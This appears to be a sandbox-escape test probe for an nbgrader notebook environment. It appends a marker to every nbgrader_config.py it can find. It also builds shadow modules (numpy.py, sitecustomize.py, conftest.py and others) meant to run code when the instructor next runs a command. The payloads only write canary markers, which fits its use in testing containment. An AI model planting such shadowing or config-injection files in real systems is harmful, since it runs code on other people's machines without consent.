# tries: appends to nbgrader_config.py and leaves conftest.py, sitecustomize.py and numpy.py beside the notebook
# gain: code that runs with the next command of the instructor
# stopped by: kernel

# %% setup
import glob, os, re, sqlite3
def upwards(name):
    """Every file of that name beside or above the notebook, and where a well-informed attacker would look."""
    places, folder = ["@course@", "@repository@"], os.getcwd()
    while folder != "/":
        places.append(folder)
        folder = os.path.dirname(folder)
    return [path for place in places for path in glob.glob(os.path.join(place, name))]

for path in upwards("nbgrader_config.py"):
    with open(path, "a") as file:
        file.write("\n# rnnt-attack was here\n")
    raise Exception("BROKE-OUT: configuration written")

# %% files
def files():
    code = b"import os; open('/tmp/rnnt-attack-left-behind', 'w'); raise ImportError('rnnt-attack')"
    return {name: code for name in ("numpy.py", "sitecustomize.py", "usercustomize.py", "conftest.py", "torch.py", "helpers/__init__.py")}
